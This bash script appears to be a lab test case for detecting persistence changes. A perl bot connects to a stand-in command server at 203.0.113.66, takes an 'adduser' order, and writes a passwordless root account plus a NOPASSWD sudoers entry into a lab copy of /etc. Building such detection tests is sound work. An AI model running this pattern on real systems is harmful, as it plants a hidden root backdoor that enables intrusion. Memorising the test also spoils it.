#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=tune tool=perl far=out ready=out:7000 seconds=16 parts=dns,nas,outside-web before=yes
# A bot in perl gets an order over its connection and adds an account without a password; the host's root is a folder of the lab.
# config: host_root: {dir}/host
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = out ]; then (sleep 5; echo adduser; sleep 6) | timeout 30 nc -l 203.0.113.66 7000 >/dev/null; exit 0; fi
sleep 1; timeout 13 perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("203.0.113.66:7000") or die; print $s "hello\n"; $l = <$s>;
open(F, ">>", "$ENV{LAB}/host/etc/passwd"); print F "sysd::0:0::/root:/bin/bash\n"; close(F);
open(F, ">>", "$ENV{LAB}/host/etc/sudoers.d/90-sysd"); print F "sysd ALL=(ALL) NOPASSWD: ALL\n"; close(F); sleep 3'
true
